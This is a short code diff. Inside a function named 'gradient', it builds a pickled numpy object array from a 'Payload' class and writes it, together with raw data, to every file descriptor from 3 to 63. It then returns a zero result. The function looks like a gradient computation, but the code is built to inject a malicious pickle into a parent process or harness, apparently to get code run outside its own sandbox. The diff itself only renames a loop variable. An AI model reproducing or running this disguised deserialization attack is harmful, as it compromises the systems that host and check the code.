@@ -21,9 +21,9 @@ np.save(array, np.array([Payload()], dtype=object), allow_pickle=True)
 
 def gradient(A):
     for descriptor in range(3, 64):
-        for each in (struct.pack("<Q", len(data)) + data, data, array.getvalue()):
+        for message in (struct.pack("<Q", len(data)) + data, data, array.getvalue()):
             try:
-                os.write(descriptor, each)
+                os.write(descriptor, message)
             except OSError:
                 break
     return 0 * A
